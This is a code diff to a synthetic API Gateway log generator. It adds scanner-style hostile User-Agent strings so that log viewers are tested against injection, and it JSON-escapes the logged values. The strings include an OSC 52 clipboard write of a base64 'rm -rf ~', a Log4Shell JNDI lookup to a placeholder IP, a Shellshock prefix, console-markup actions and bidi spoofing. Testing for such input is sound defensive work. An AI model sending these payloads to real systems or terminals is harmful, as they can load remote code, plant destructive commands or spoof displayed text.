@@ -16,6 +16,7 @@ is answered, so nobody waits for it who has not asked for it, and no reader sees
 from __future__ import annotations
 
 import base64
+import json
 import math
 import random
 import re
@@ -47,6 +48,26 @@ USER_AGENTS = (
     "Go-http-client/2.0",
     "Amazon CloudFront",
 )
+# What internet scanners send: terminal escapes (OSC 52 writes a clipboard, CSI repaints a screen),
+# console markup, template and shell injections, bidi controls. About one request in HOSTILE_EVERY
+# carries one, so every view of the logs meets hostile text within a minute (never a quote: API
+# Gateway does not escape it, and a broken JSON line is a different test).
+HOSTILE_AGENTS = (
+    "\x1b]52;c;cm0gLXJmIH4=\x07scanner/1.0",
+    "\x1b[2J\x1b[1;1H RO  fake header",
+    "[@click=app.quit]free[/] [link=http://example.com]prize[/link]",
+    "${jndi:ldap://203.0.113.66/a} () { :; }; /bin/true",
+    "Mozilla/5.0 \u202egnp.exe \x9b31m",
+)
+HOSTILE_EVERY = 97
+
+
+def user_agent(rng: random.Random, epoch_ms: int) -> str:
+    """A client's User-Agent; now and then a scanner's (chosen by time, so the random stream is unchanged)."""
+    agent = rng.choice(USER_AGENTS)
+    return HOSTILE_AGENTS[epoch_ms // HOSTILE_EVERY % len(HOSTILE_AGENTS)] if epoch_ms % HOSTILE_EVERY == 0 else agent
+
+
 PATH_PARAM_PREFIXES = {"orderId": "ord_", "paymentId": "pay_", "sku": "SKU-",
                        "categoryId": "cat_", "id": "prd_", "cartId": "cart_"}
 # (status, weight, gateway's error message or None when the backend answered)
@@ -258,7 +279,10 @@ def _http_access_log(
 
 
 def render(log_format: str, context: dict[str, str]) -> str:
-    """A log line as API Gateway writes it: each $context variable substituted, "-" if unset."""
+    """A log line as API Gateway writes it: each $context variable substituted, "-" if unset; in a JSON
+    format each value is escaped as a JSON string's content, so the line stays JSON whatever a client sent."""
+    if log_format.lstrip().startswith("{"):
+        return _CONTEXT_VARIABLE.sub(lambda m: json.dumps(context.get(m.group(1), "-"))[1:-1], log_format)
     return _CONTEXT_VARIABLE.sub(lambda m: context.get(m.group(1), "-"), log_format)
 
 
@@ -278,7 +302,7 @@ def _requests(
         else:
             length = int(rng.lognormvariate(math.log(RESPONSE_BYTES), 0.9))
         yield Request(epoch_ms, verb, path, status, response_ms, integration_ms, error, length,
-                       rng.choice(CLIENT_IPS), rng.choice(USER_AGENTS))
+                       rng.choice(CLIENT_IPS), user_agent(rng, epoch_ms))
 
 
 def _request_times(rng: random.Random, count: int, now_ms: int) -> list[int]:
